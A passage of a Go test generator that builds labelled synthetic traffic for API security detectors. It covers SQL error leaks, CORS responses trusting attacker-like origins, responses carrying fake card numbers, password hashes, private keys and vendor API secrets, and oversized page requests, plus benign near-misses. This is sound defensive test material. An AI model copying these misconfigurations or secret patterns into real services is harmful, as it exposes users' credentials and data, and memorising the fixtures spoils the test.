	{"application/json", `{"status":500,"error":"Internal Server Error","exception":"#<ActiveRecord::StatementInvalid: PG::UndefinedColumn: ERROR:  column accounts.nickname does not exist\nLINE 1: SELECT \"accounts\".\"nickname\" FROM \"accounts\" WHERE \"accounts\".\"id\" = $1\n                ^\n>","traces":{"Application Trace":[{"id":1,"trace":"app/models/account.rb:33:in 'display_name'"}]}}`},
	// SQL error text: MySQL, PostgreSQL, SQLite, MSSQL, Oracle, others
	{"application/json", `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''O'Brien' ORDER BY created_at DESC LIMIT 20' at line 1"}`},
	{"text/plain", "Error 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near '\\'' at line 1"},
	{"application/json", `{"message":"Warning: mysqli_fetch_assoc() expects parameter 1 to be mysqli_result, bool given in /var/www/api/search.php on line 28"}`},
	{"application/json", `{"error":"pq: syntax error at or near \"Brien\"","code":"42601"}`},
	{"application/json", `{"error":"ERROR:  unterminated quoted string at or near \"'Brien)\"\nLINE 1: ...FROM payees WHERE owner_id = 42 AND name ILIKE '%O'Brien)\n                                                               ^"}`},
	{"text/plain", "org.postgresql.util.PSQLException: ERROR: invalid input syntax for type uuid: \"abc\"\n  Position: 58\n\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse(QueryExecutorImpl.java:2725)\n"},
	{"application/json", `{"error":"SQLITE_ERROR: near \"Brien\": syntax error","errno":1,"code":"SQLITE_ERROR"}`},
	{"application/json", `{"detail":"sqlite3.OperationalError: unrecognized token: \"'\"\n"}`},
	{"application/json", `{"error":"Unclosed quotation mark after the character string 'Brien'.\r\nIncorrect syntax near 'Brien'.","number":105,"class":15}`},
	{"text/html", "<font face=\"Arial\" size=2><p>Microsoft OLE DB Provider for SQL Server</font> <font face=\"Arial\" size=2>error '80040e14'</font><p><font face=\"Arial\" size=2>Unclosed quotation mark after the character string ''.</font><p><font face=\"Arial\" size=2>/api/legacy/statement.asp</font><font face=\"Arial\" size=2>, line 33</font>"},
	{"application/json", `{"error":"System.Data.SqlClient.SqlException (0x80131904): Conversion failed when converting the nvarchar value 'abc' to data type int.\r\n   at System.Data.SqlClient.SqlConnection.OnError(SqlException exception, Boolean breakConnection)"}`},
	{"application/json", `{"code":"DB_ERROR","message":"ORA-01756: quoted string not properly terminated"}`},
	{"text/plain", "java.sql.SQLSyntaxErrorException: ORA-00933: SQL command not properly ended\n\n\tat oracle.jdbc.driver.T4CTTIoer11.processError(T4CTTIoer11.java:630)\n\tat com.bank.legacy.StatementDao.find(StatementDao.java:120)\n"},
	{"application/json", `{"error":"ORA-00942: table or view does not exist","sql":"SELECT * FROM LEDGER_ENTRIES_V2 WHERE ACCT = :1"}`},
	{"application/json", `{"error":"SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax near '\\' AND status=1' at line 1 (SQL: select * from appointments where patient = 'x\\' and status=1)"}`},
	{"application/json", `{"errorMessage":"com.microsoft.sqlserver.jdbc.SQLServerException: Invalid column name 'patient_nme'.","errorType":"SQLServerException"}`},
	{"application/json", `{"error":"DB2 SQL Error: SQLCODE=-104, SQLSTATE=42601, SQLERRMC=';;END-OF-STATEMENT, DRIVER=4.26.14"}`},
	// other framework debug output
	{"text/html; charset=utf-8", "<!DOCTYPE html><html><head><title>Whoops! There was an error.</title></head><body><div class=\"Whoops container\"><div class=\"exception\"><div class=\"exc-title\"><span class=\"exc-title-primary\">Illuminate\\Database\\QueryException</span></div><p class=\"exc-message\">SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry 'anna@clinic.example' for key 'users_email_unique'</p></div><div class=\"frame-file\">/var/www/clinic/vendor/laravel/framework/src/Illuminate/Database/Connection.php</div></div><div class=\"data-table\"><label>APP_ENV</label><span>local</span></div></body></html>"},
	{"application/json", `{"error":{"root_cause":[{"type":"query_shard_exception","reason":"failed to create query: For input string: \"abc\""}],"type":"search_phase_execution_exception","reason":"all shards failed"},"status":400,"stack_trace":"org.elasticsearch.action.search.SearchPhaseExecutionException: all shards failed\n\tat org.elasticsearch.action.search.AbstractSearchAsyncAction.onPhaseFailure(AbstractSearchAsyncAction.java:713)"}`},
	{"text/plain; charset=utf-8", "thread 'tokio-runtime-worker' panicked at src/handlers/transfers.rs:88:41:\ncalled `Option::unwrap()` on a `None` value\nstack backtrace:\n   0: rust_begin_unwind\n   1: core::panicking::panic_fmt\n   2: ledger_api::handlers::transfers::create\n"},
	{"application/json", `{"error":"Internal Server Error","exception":"ValueError","traceback":["  File \"/opt/clinic/venv/lib/python3.11/site-packages/fastapi/routing.py\", line 297, in app\n","  File \"/opt/clinic/app/routers/slots.py\", line 44, in list_slots\n    start = datetime.fromisoformat(date)\n","ValueError: Invalid isoformat string: 'tomorrow'\n"]}`},
}

func (g *h2Gen) genVerbose() {
	type ep struct{ host, method, path, query, body string }
	eps := []ep{
		{h2Bank, "GET", "/api/v1/payees", "?name=O%27Brien", ""},
		{h2Clin, "GET", "/api/v1/appointments/8812", "", ""},
		{h2Bank, "POST", "/api/v1/transfers", "", `{"fromAccount":"ACC-88213","toIban":"DE89370400440532013000","amount":"abc"}`},
		{h2Clin, "POST", "/v2/slots/book", "", `{"slot":"2026-06-03T09:30:00Z"}`},
		{h2Bank, "GET", "/v2/accounts/00000000-0000-0000-0000-000000000000/balance", "", ""},
		{h2Clin, "GET", "/api/v1/patients/99999", "", ""},
		{h2Bank, "GET", "/v2/fx/quotes", "?from=EUR&to=", ""},
		{h2Clin, "GET", "/api/v1/slots", "?date=tomorrow", ""},
	}
	for j, vb := range h2VerboseBodies {
		e := eps[j%len(eps)]
		hdr := g.auth(http.Header{})
		if e.body != "" {
			hdr.Set("Content-Type", "application/json")
		}
		status := []int{500, 500, 502, 400, 500, 503, 500, 422}[j%8]
		rh := h2Header("Content-Type", vb.ctype)
		g.add([]string{h2Verbose}, h2Req{method: e.method, url: "https://" + e.host + e.path + e.query, hdr: hdr, body: e.body}, status, rh, vb.body)
	}
	// CORS letting foreign, null or wildcard origins read credentialed responses
	cors := []struct{ origin, acao string }{
		{"https://evil.example", "https://evil.example"},
		{"null", "null"},
		{"https://bank.example.attacker.example", "https://bank.example.attacker.example"},
		{"https://attackerbank.example", "https://attackerbank.example"},
		{"http://localhost:31337", "http://localhost:31337"},
		{"https://evil.example", "*"},
		{"https://clinic.example.evil.example", "https://clinic.example.evil.example"},
		{"null", "null"},
		{"https://xn--bnk-sna.example", "https://xn--bnk-sna.example"},
		{"https://app.bank.example.evil.example", "https://app.bank.example.evil.example"},
		{"http://app.bank.example", "http://app.bank.example"},
		{"https://subdomain-takeover.clinic-cdn.example", "https://subdomain-takeover.clinic-cdn.example"},
		{"https://evil.example", "https://evil.example"},
		{"file://", "file://"},
		{"https://evil.example", "https://evil.example"},
		{"https://notbank.example", "https://notbank.example"},
		{"https://evil.example", "https://evil.example"},
		{"null", "null"},
		{"https://evil.example", "*"},
		{"https://a.evil.example", "https://a.evil.example"},
		{"https://evil.example", "https://evil.example"},
		{"https://patient-portal.evil.example", "https://patient-portal.evil.example"},
		{"https://evil.example", "https://evil.example"},
		{"https://evil.example", "https://evil.example"},
	}
	cp := []struct{ host, path, body string }{
		{h2Bank, "/api/v1/accounts/me", `{"id":"usr_104422","name":"Ana Lima","accounts":[{"id":"ACC-88213","balance":"1204.55","currency":"EUR"}]}`},
		{h2Clin, "/api/v1/patients/me", `{"id":"PT-10442","name":"Jonas Berg","nextAppointment":"2026-06-03T09:30:00Z"}`},
		{h2Bank, "/v2/cards", `{"data":[{"id":"card_19","last4":"4242","brand":"visa","status":"active"}]}`},
		{h2Clin, "/v2/appointments", `{"data":[{"id":"apt_7781","practitioner":"Dr. Ruth Okafor","start":"2026-06-04T14:00:00Z"}]}`},
	}
	for j, c := range cors {
		p := cp[j%len(cp)]
		hdr := http.Header{}
		hdr.Set("Origin", c.origin)
		if j%2 == 0 {
			hdr.Set("Cookie", "sid="+g.str(h2Hex, 32))
		} else {
			hdr.Set("Authorization", "Bearer "+g.validToken())
		}
		rh := h2Header("Access-Control-Allow-Origin", c.acao, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
		if j%3 == 0 {
			rh.Set("Access-Control-Expose-Headers", "X-Request-Id, X-RateLimit-Remaining")
		}
		method := "GET"
		if j%5 == 4 {
			// preflight answered for any origin
			method = "OPTIONS"
			hdr.Set("Access-Control-Request-Method", "POST")
			hdr.Set("Access-Control-Request-Headers", "authorization,content-type")
			rh.Set("Access-Control-Allow-Methods", "GET,POST,PUT,DELETE")
			rh.Set("Access-Control-Allow-Headers", "authorization,content-type")
			g.add([]string{h2Verbose}, h2Req{method: method, url: "https://" + p.host + p.path, hdr: hdr}, 204, rh, "")
			continue
		}
		g.add([]string{h2Verbose}, h2Req{method: method, url: "https://" + p.host + p.path, hdr: hdr}, 200, rh, p.body)
	}
}

// ---------------------------------------------------------------------------
// Sensitive data in responses

// luhn completes prefix to length digits with a valid Luhn check digit.
func (g *h2Gen) luhn(prefix string, length int) string {
	d := []byte(prefix)
	for len(d) < length-1 {
		d = append(d, byte('0'+g.intn(10)))
	}
	sum := 0
	for i := len(d) - 1; i >= 0; i-- {
		v := int(d[i] - '0')
		if (len(d)-1-i)%2 == 0 { // the digit left of the check digit is doubled
			v *= 2
			if v > 9 {
				v -= 9
			}
		}
		sum += v
	}
	return string(d) + string(rune('0'+(10-sum%10)%10))
}

func h2Group(card string, sep string) string {
	var parts []string
	for i := 0; i < len(card); i += 4 {
		parts = append(parts, card[i:min(i+4, len(card))])
	}
	return strings.Join(parts, sep)
}

func (g *h2Gen) pemBlock(kind string, lines int) string {
	var b strings.Builder
	b.WriteString("-----BEGIN " + kind + "-----\n")
	for i := 0; i < lines; i++ {
		b.WriteString(g.str(h2B64, 64) + "\n")
	}
	b.WriteString(g.str(h2B64, 20) + "==\n-----END " + kind + "-----\n")
	return b.String()
}

func (g *h2Gen) genSensitive() {
	var bodies []string
	// card numbers of several issuers, with card-ish keys, groupings, nesting
	cards := []struct {
		prefix string
		n      int
	}{{"4", 16}, {"51", 16}, {"2221", 16}, {"34", 15}, {"37", 15}, {"6011", 16}, {"3528", 16}, {"4", 13}, {"55", 16}, {"36", 14}, {"62", 16}, {"4", 19}, {"2720", 16}, {"6759", 16}, {"4", 16}, {"53", 16}, {"6011", 16}, {"4", 16}, {"37", 15}, {"52", 16}}
	for j, c := range cards {
		num := g.luhn(c.prefix, c.n)
		switch j % 6 {
		case 0:
			bodies = append(bodies, h2J(h2M{"id": "card_" + g.str(h2Alnum, 10), "pan": num, "expMonth": 9, "expYear": 2029, "status": "active"}))
		case 1:
			bodies = append(bodies, h2J(h2M{"data": []h2M{{"card_number": h2Group(num, " "), "holder": "ANA LIMA", "cvv": fmt.Sprint(100 + g.intn(899))}}}))
		case 2:
			bodies = append(bodies, h2J(h2M{"payment": h2M{"method": h2M{"type": "card", "cardNumber": num}}, "amount": "42.00"}))
		case 3:
			bodies = append(bodies, h2J(h2M{"customer": "PT-10442", "billing": h2M{"creditCard": h2Group(num, "-"), "expiry": "11/28"}}))
		case 4:
			bodies = append(bodies, h2J(h2M{"results": []h2M{{"ref": "tx_1", "note": "Refund to card " + num + " processed"}}}))
		default:
			bodies = append(bodies, h2J(h2M{"accountNumber": "GB82WEST12345698765432", "debit_card": h2M{"number": num, "last4": num[len(num)-4:]}}))
		}
	}
	// password hashes and clear-text passwords
	hashes := []h2M{
		{"email": "ana@bank.example", "password_hash": "$2b$12$" + g.str("./"+h2Alnum, 53)},
		{"username": "jberg", "passwordHash": "$argon2id$v=19$m=65536,t=3,p=4$" + g.str(h2B64[:62], 22) + "$" + g.str(h2B64[:62], 43)},
		{"user": h2M{"id": 91, "password": "$2y$10$" + g.str("./"+h2Alnum, 53)}},
		{"login": "clinic-admin", "pwd_sha256": g.str(h2Hex, 64)},
		{"id": "usr_22", "password": "Summer2026!", "email": "k.novak@clinic.example"},
		{"users": []h2M{{"name": "ops", "hash": "$6$rounds=656000$" + g.str(h2Alnum, 16) + "$" + g.str("./"+h2Alnum, 86)}}},
		{"account": h2M{"username": "m.rossi", "password_digest": "pbkdf2_sha256$600000$" + g.str(h2Alnum, 22) + "$" + g.str(h2B64, 43) + "="}},
		{"member": "PT-3301", "passwordSha1": g.str(h2Hex, 40)},
		{"staff": []h2M{{"email": "r.okafor@clinic.example", "pass_md5": g.str(h2Hex, 32)}}},
		{"credentials": h2M{"user": "api-sync", "password": "Tr0ub4dor&3-prod"}},
		{"admin": h2M{"email": "root@bank.example", "encrypted_password": "$2a$11$" + g.str("./"+h2Alnum, 53)}},
		{"users": []h2M{{"id": 1, "password": "$1$" + g.str(h2Alnum, 8) + "$" + g.str("./"+h2Alnum, 22)}}},
	}
	for _, h := range hashes {
		bodies = append(bodies, h2J(h))
	}
	// private keys
	for j, kind := range []string{"RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "DSA PRIVATE KEY", "PGP PRIVATE KEY BLOCK"} {
		k := g.pemBlock(kind, 3+j%4)
		switch j % 3 {
		case 0:
			bodies = append(bodies, h2J(h2M{"keyId": fmt.Sprint("k", j), "privateKey": k}))
		case 1:
			bodies = append(bodies, h2J(h2M{"config": h2M{"tls": h2M{"cert": "-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----\n", "key": k}}}))
		default:
			bodies = append(bodies, k)
		}
	}
	// cloud credentials: AWS, GCP service account, Azure
	for j := 0; j < 4; j++ {
		bodies = append(bodies, h2J(h2M{"aws": h2M{"accessKeyId": []string{"AKIA", "ASIA", "AKIA", "AKIA"}[j] + g.str(h2Upper[:26]+"234567", 16), "secretAccessKey": g.str(h2B64, 40), "region": "eu-central-1"}}))
	}
	bodies = append(bodies,
		"AWS_ACCESS_KEY_ID=AKIA"+g.str(h2Upper[:26]+"234567", 16)+"\nAWS_SECRET_ACCESS_KEY="+g.str(h2B64, 40)+"\nAWS_DEFAULT_REGION=eu-west-1\n",
		h2J(h2M{"type": "service_account", "project_id": "clinic-prod-4412", "private_key_id": g.str(h2Hex, 40), "private_key": g.pemBlock("PRIVATE KEY", 4), "client_email": "booking-sync@clinic-prod-4412.iam.gserviceaccount.com", "client_id": "10" + g.str("0123456789", 19)}),
		h2J(h2M{"storage": "DefaultEndpointsProtocol=https;AccountName=bankstatements;AccountKey=" + g.str(h2B64, 86) + "==;EndpointSuffix=core.windows.net"}),
		h2J(h2M{"azure": h2M{"tenantId": "72f988bf-86f1-41af-91ab-2d7cd011db47", "clientId": "5c2f8e1a-90f2-4d1b-8a3e-0b1f3c7e9d22", "clientSecret": g.str(h2Alnum[:52], 3) + "8Q~" + g.str(h2Alnum+"_-.~", 34)}}),
		h2J(h2M{"sas": "https://clinicdocs.blob.core.windows.net/scans?sv=2022-11-02&ss=b&srt=sco&sp=rwdlacx&se=2027-01-01T00:00:00Z&sig=" + url.QueryEscape(g.str(h2B64, 43)+"=")}),
		h2J(h2M{"gcp": h2M{"apiKey": "AIza" + g.str(h2B64URL, 35)}}),
	)
	// API secrets of common vendors
	bodies = append(bodies,
		h2J(h2M{"integration": "stripe", "secret_key": "sk_live_" + g.str(h2Alnum, 24)}),
		h2J(h2M{"github": h2M{"token": "ghp_" + g.str(h2Alnum, 36)}}),
		h2J(h2M{"slack": h2M{"botToken": "xoxb-" + g.str("0123456789", 12) + "-" + g.str("0123456789", 13) + "-" + g.str(h2Alnum, 24)}}),
		h2J(h2M{"mail": h2M{"provider": "sendgrid", "apiKey": "SG." + g.str(h2B64URL, 22) + "." + g.str(h2B64URL, 43)}}),
		h2J(h2M{"sms": h2M{"accountSid": "AC" + g.str(h2Hex, 32), "authToken": g.str(h2Hex, 32)}}),
		h2J(h2M{"webhookSigningSecret": "whsec_" + g.str(h2Alnum, 32)}),
		h2J(h2M{"openai_api_key": "sk-proj-" + g.str(h2B64URL, 48)}),
		h2J(h2M{"gitlab": "glpat-" + g.str(h2B64URL, 20)}),
		h2J(h2M{"npmToken": "npm_" + g.str(h2Alnum, 36)}),
		h2J(h2M{"client_id": "bank-batch", "client_secret": g.str(h2Alnum, 40)}),
		h2J(h2M{"settings": h2M{"DATABASE_URL": "postgres://ledger:" + g.str(h2Alnum, 20) + "@db-primary.internal:5432/ledger"}}),
		h2J(h2M{"square": "sq0csp-" + g.str(h2B64URL, 43)}),
	)
	eps := []struct{ host, path string }{
		{h2Bank, "/api/v1/cards/card_19"},
		{h2Clin, "/api/v1/billing/methods"},
		{h2Bank, "/v2/admin/users/91"},
		{h2Clin, "/v2/integrations/settings"},
		{h2Bank, "/api/v1/debug/config"},
		{h2Clin, "/api/v1/staff"},
		{h2Bank, "/v2/payments/pay_7712"},
	}
	for j, b := range bodies {
		e := eps[j%len(eps)]
		rh := http.Header{}
		if strings.HasPrefix(b, "-----") || strings.HasPrefix(b, "AWS_") {
			rh.Set("Content-Type", "text/plain; charset=utf-8")
		}
		g.add([]string{h2Sens}, h2Req{method: "GET", url: "https://" + e.host + e.path, hdr: g.auth(http.Header{})}, 200, rh, b)
	}
}

// ---------------------------------------------------------------------------
// Resource limits: page sizes far above 1,000, huge JSON bodies

func (g *h2Gen) genLimits() {
	params := []string{"limit", "per_page", "pageSize", "page_size", "top", "$top", "size", "page[size]", "perPage", "maxResults", "count", "take", "rows", "first", "max_results", "page[limit]"}
	values := []string{"5000", "10000", "100000", "1000000", "2500", "99999", "50000", "1001", "2147483647", "9999999", "25000", "7500"}
	paths := []struct{ host, path string }{
		{h2Bank, "/api/v1/transactions"}, {h2Clin, "/api/v1/appointments"}, {h2Bank, "/v2/payees"},
		{h2Clin, "/v2/patients"}, {h2Bank, "/api/v1/statements"}, {h2Clin, "/api/v1/slots"}, {h2Bank, "/v2/audit-log"},
	}
	for j := 0; j < 48; j++ {
		p := params[j%len(params)]
		v := values[(j*7)%len(values)]
		e := paths[j%len(paths)]
		hdr := g.auth(http.Header{})
		var r h2Req
		switch j % 4 {
		case 0, 1:
			key := p
			if j%8 == 1 {
				key = url.QueryEscape(p)
			}
			r = h2Req{method: "GET", url: "https://" + e.host + e.path + "?" + key + "=" + v + "&sort=-createdAt", hdr: hdr}
		case 2:
			r = h2Req{method: "POST", url: "https://" + e.host + e.path + "/search", hdr: h2JSONHdr(hdr),
				body: h2J(h2M{"filter": h2M{"status": "posted"}, "pagination": h2M{p: h2Num(v), "offset": 0}})}
		default:
			hdr.Set("Content-Type", "application/x-www-form-urlencoded")
			r = h2Req{method: "POST", url: "https://" + e.host + e.path + "/export", hdr: hdr, body: "format=csv&" + url.QueryEscape(p) + "=" + v}
		}
		g.add([]string{h2Limits}, r, 200, nil, `{"data":[],"meta":{"returned":0}}`)
	}
	// GraphQL first:/last: arguments
	for j, v := range []string{"5000", "10000", "100000", "2000", "65535", "1000000"} {
		arg := []string{"first", "last"}[j%2]
		q := fmt.Sprintf("query { transactions(%s: %s) { edges { node { id amount } } } }", arg, v)
		body := h2J(h2M{"query": q})
		if j%2 == 1 {
			body = h2J(h2M{"query": "query Tx($n: Int!) { transactions(" + arg + ": $n) { edges { node { id } } } }", "variables": h2M{"n": h2Num(v)}})
		}
		g.add([]string{h2Limits}, h2Req{method: "POST", url: "https://" + h2Bank + "/graphql", hdr: h2JSONHdr(g.auth(http.Header{})), body: body}, 200, nil, `{"data":{"transactions":{"edges":[]}}}`)
	}
	// OData-style and nested JSON:API
	for j, u := range []string{
		"/v2/odata/Appointments?$top=50000&$skip=0",
		"/v2/odata/Patients?%24top=100000",
		"/api/v1/transactions?page%5Bsize%5D=10000&page%5Bnumber%5D=1",
		"/api/v1/appointments?filter[status]=booked&page[size]=5000",
		"/v2/payees?limit=1000&per_page=20000",
		"/api/v1/statements?pageSize=1e5",
	} {
		host := []string{h2Clin, h2Clin, h2Bank, h2Clin, h2Bank, h2Bank}[j]
		g.add([]string{h2Limits}, h2Req{method: "GET", url: "https://" + host + u, hdr: g.auth(http.Header{})}, 200, nil, `{"value":[]}`)
	}
	// JSON bodies above 10 MiB (captured truncated, body_size carries the size)
	for j, size := range []int64{11 << 20, 16 << 20, 64 << 20, 10<<20 + 4096, 200 << 20, 33 << 20} {
		host := []string{h2Bank, h2Clin}[j%2]
		prefix := `{"transactions":[` + strings.Repeat(`{"amount":"1.00","memo":"x"},`, 200)
		g.add([]string{h2Limits}, h2Req{method: "POST", url: "https://" + host + "/api/v1/bulk/import", hdr: h2JSONHdr(g.auth(http.Header{})), body: prefix, bodySize: size}, 413, nil, `{"error":"payload_too_large"}`)
	}
}

func h2Num(s string) any {
	var n int64
	if _, err := fmt.Sscan(s, &n); err != nil {
		return s
	}
	return n
}

// ---------------------------------------------------------------------------
// Generation, shuffling and output

func h2Generate(t *testing.T) (traffic, labels []byte) {
	g := &h2Gen{t: t, rng: 0x9E3779B97F4A7C15}
	g.plant(h2SQLi, 80, h2SQLiPayloads, h2SQLiFields, []int{
		h2LocQuery, h2LocJSON, h2LocPath, h2LocForm, h2LocJSONDeep, h2LocQuery20, h2LocUA, h2LocJSONArray,
		h2LocCookie, h2LocGraphQL, h2LocXFF, h2LocDouble, h2LocReferer, h2LocMultipart, h2LocSOAP, h2LocAPIVersion,
	})
	g.plant(h2XSS, 74, h2XSSPayloads, h2XSSFields, []int{
		h2LocJSON, h2LocQuery, h2LocForm, h2LocJSONDeep, h2LocQuery20, h2LocJSONArray, h2LocReferer, h2LocGraphQL,
		h2LocUA, h2LocMultipart, h2LocDouble, h2LocPath, h2LocCookie,
	})
	g.genOther()
	g.genSSRF()
	g.genJWT()
	g.genVerbose()
	g.genSensitive()
	g.genLimits()
	g.genBenign(1260)

	// Interleave attacks and benign traffic: a Fisher-Yates shuffle driven by
	// the fixed-seed generator.
	items := g.items
	for i := len(items) - 1; i > 0; i-- {
		j := g.intn(i + 1)
		items[i], items[j] = items[j], items[i]
	}
	var tb, lb bytes.Buffer
	at := h2Base
	for i := range items {
		it := &items[i]
		id := fmt.Sprintf("k%05d", i+1)
		at = at.Add(time.Duration(400+g.intn(2600)) * time.Millisecond)
		it.x.ID, it.x.Time = id, at
		it.x.Response.Header.Set("Date", at.Add(it.x.Duration).Format(http.TimeFormat))
		line, err := json.Marshal(it.x)
		if err != nil {
			t.Fatal(err)
		}
		tb.Write(line)
		tb.WriteByte('\n')
		det := it.labels
		if det == nil {
			det = []string{}
		}
		line, err = json.Marshal(struct {
			ID        string   `json:"id"`
			Detectors []string `json:"detectors"`
		}{id, det})
		if err != nil {
			t.Fatal(err)
		}
		lb.Write(line)
		lb.WriteByte('\n')
	}
	return tb.Bytes(), lb.Bytes()
}

// ---------------------------------------------------------------------------
// Benign traffic: a fintech/banking API and a healthcare-appointments API,
// with many near-misses.

// Free text that looks like SQL, shell, markup or templates but is ordinary.
var h2NearMissText = []string{
	"select your plan before Friday",
	"drop-off date moved to Tuesday",
	"Union Station parking refund",
	"Rent - O'Brien & Sons",
	"1=1 is true in math class, said Mr. O'Hara",
	"Invoice #4471 -- final payment",
	"Dinner at Joe's; split 3 ways",
	"Order 100234 or 100235, whichever arrives first",
	"where is my new card?",
	"update: delete the old payee please",
	"Table tennis club dues (June)",
	"cat; dog toys and food",
	"Refund (partial) - see ticket 8812",
	"50% off - summer sale",
	"from savings to checking",
	"Bob's birthday gift <3",
	"ACH 2026/06 payroll",
	"sleep study co-pay",
	"Select * items are on sale? asked Sam",
	"Charity: Hope & Union Fund",
	"Gym membership | monthly",
	"Parking at 5th & Main",
	"Don't forget: 2 > 1 and 3 < 4",
	"Mrs. D'Angelo's piano lessons",
	"Pay back for \"concert\" tickets",
	"Grocery run - 24/7 store",
	"Insert coin laundry",
	"Execute order 66 (Star Wars marathon snacks)",
	"Water bill -- Q2",
	"Where's the drop box? Union Square branch",
}

// Harmless markup, Markdown and links in comment/description fields.
var h2Markup = []string{
	"<p>Please bring your <b>insurance card</b> and photo ID.</p>",
	"<b>Great</b> service, thank you!",
	"See <a href=\"https://www.bank.example/help/cards\">card help</a> for details",
	"**Important:** the clinic moved to _Building B_. [Map](https://maps.example.com/?q=clinic)",
	"<ul><li>Fasting 8h</li><li>Bring previous results</li></ul>",
	"Line one<br>Line two",
	"<em>Urgent</em>: please call back",
	"# Release notes\n- Faster transfers\n- New `limits` endpoint",
	"<i>Dr. Okafor</i> will see you at <strong>10:30</strong>",
	"> quoted reply\n\nThanks, works now :)",
	"<table><tr><td>Item</td><td>Cost</td></tr><tr><td>X-ray</td><td>40.00</td></tr></table>",
	"<span style=\"color:#c00\">Overdue</span> balance reminder",
	"Blood pressure < 140/90 and pulse > 60",
	"<h2>Welcome</h2><p>Your account is ready.</p>",
}

// Template-like text in CMS and notification fields.
var h2Templates = []string{
	"Hello {{name}}, your statement for {{month}} is ready.",
	"Total: ${price} (incl. VAT)",
	"Hi {{patient.firstName}}, see you on {{date}} at {{time}}.",
	"Dear %s, your transfer of %d EUR was sent.",
	"Reminder: {{appointment.type}} with {{practitioner.name}}",
	"Your code is {0}. It expires in {1} minutes.",
	"Balance: #{balance} as of #{date}",
	"Hi ${firstName}, your card ending ${last4} was frozen.",
	"{% raw %}Use {{ }} for placeholders{% endraw %}",
	"Reply STOP to opt out. Msg&data rates may apply.",
}

// Developer forum posts and code snippets.
var h2Code = []string{
	"How do I paginate? I call `GET /v2/transactions?limit=50&cursor=...` but get 429.",
	"```js\nconst total = items.reduce((a, b) => a + b.amount, 0);\n```",
	"```python\nfor tx in client.transactions.list(limit=100):\n    print(tx.id, tx.amount)\n```",
	"if (balance >= 0 && !account.frozen) { approve(); }",
	"Run `ls -la ~/.config/bank-cli` to find the config file",
	"curl -H \"Authorization: Bearer $TOKEN\" https://api.bank.example/v2/accounts",
	"Getting `invalid_grant` when refreshing; token_type=Bearer, expires_in=3600",
	"```go\nresp, err := http.Get(\"https://api.clinic.example/v2/slots?date=2026-06-03\")\n```",
	"The SDK docs say: SELECT the environment in settings, then restart.",
	"Use `jq '.data[] | {id, amount}'` to filter the output",
	"Regex for IBAN: ^[A-Z]{2}[0-9]{2}[A-Z0-9]{11,30}$",
	"SELECT id, amount FROM transfers WHERE status = 'pending' ORDER BY created_at DESC LIMIT 50 -- is what our reporting job runs, any faster way via the API?",
	"Math check: (1 + 0.045/12)^360 * 250000 / 360",
	"My webhook at https://hooks.partner.example/bank/events never receives transfer.completed",
	"Path in the zip is reports/2026/q1.pdf, and ../README.md explains the layout",
}

var h2Names = []string{"Ana Lima", "Jonas Berg", "Siobhán O'Brien", "Ruth Okafor", "Mateo Fernández", "Aiko Tanaka", "Liam D'Souza", "Zoë Müller", "Kwame Mensah", "Priya Nair", "Ólafur Jónsson", "Chloé Martin"}
var h2Emails = []string{"ana.lima@mail.example", "jberg+bank@inbox.example", "s.obrien@clinic.example", "ruth.okafor@clinic.example", "m.fernandez@work.example", "aiko.t@mail.example"}
var h2Cities = []string{"Berlin", "Dublin", "Lisbon", "Union City", "Salt Lake City", "Accra", "Osaka"}
var h2PublicURLs = []string{
	"https://hooks.partner.example/bank/events",
	"https://example.com/webhooks/vigil",
	"https://8.8.8.8/dns-query",
	"https://s3.eu-central-1.amazonaws.com/clinic-public/logos/logo.png",
	"https://cdn.clinic.example/avatars/u/10442.jpg",
	"https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200",
	"https://ehr.partner.example/fhir/R4/notify",
	"https://api.github.com/repos/acme/ledger/hooks",
	"https://81.2.69.160/callback",
	"https://hooks.slack.com/services/T000/B000/XXXXXXXX",
}
var h2PublicIPs = []string{"81.2.69.142", "8.8.4.4", "1.1.1.1", "185.199.108.153", "151.101.1.69", "2a00:1450:4001:82b::200e"}
var h2Files = []string{"reports/2026/q1.pdf", "statements/2026-05.pdf", "lab-results/2026-05/cbc.pdf", "referral_letter.v2.docx", "scan (1).jpeg", "exports/tx_2026-01-01_2026-03-31.csv", "docs/api/v2/README.md", "img/logo@2x.png"}

func (g *h2Gen) genBenign(n int) {
	type tmpl func(i int)
	ok := func(req h2Req, status int, body string) { g.add(nil, req, status, nil, body) }
	bank := "https://" + h2Bank
	clin := "https://" + h2Clin
	nm := func(i int) string { return h2NearMissText[(i*7+i/31)%len(h2NearMissText)] }
	name := func(i int) string { return h2Names[(i*5+i/13)%len(h2Names)] }
	acct := func(i int) string { return fmt.Sprintf("ACC-%05d", 10000+(i*7919)%89999) }
	amt := func(i int) string { return fmt.Sprintf("%d.%02d", 5+(i*37)%4800, (i*13)%100) }
	day := func(i int) string { return h2Base.AddDate(0, 0, i%28).Format("2006-01-02") }
	iban := func(i int) string {
		return []string{"DE89370400440532013000", "GB82WEST12345698765432", "FR1420041010050500013M02606", "IE29AIBK93115212345678", "NL91ABNA0417164300", "PT50000201231234567890154"}[i%6]
	}
	// orderID is a 16-digit number that fails the Luhn check.
	orderID := func(i int) string {
		c := g.luhn(fmt.Sprint(4+i%2), 16)
		last := (int(c[15]-'0') + 1 + i%8) % 10
		return c[:15] + fmt.Sprint(last)
	}
	cors := func(h http.Header, host string) http.Header {
		h.Set("Origin", "https://app."+strings.TrimPrefix(host, "api."))
		return h
	}
	corsResp := func(host string) http.Header {
		return h2Header("Access-Control-Allow-Origin", "https://app."+strings.TrimPrefix(host, "api."), "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
	}
	templates := []tmpl{
		// 1 accounts overview with masked card numbers
		func(i int) {
			body := h2J(h2M{"data": []h2M{{"id": acct(i), "type": "checking", "iban": iban(i), "balance": h2M{"amount": amt(i), "currency": "EUR"}, "card": h2M{"masked": "**** **** **** " + fmt.Sprintf("%04d", (i*97)%10000), "last4": fmt.Sprintf("%04d", (i*97)%10000), "brand": "visa"}}}})
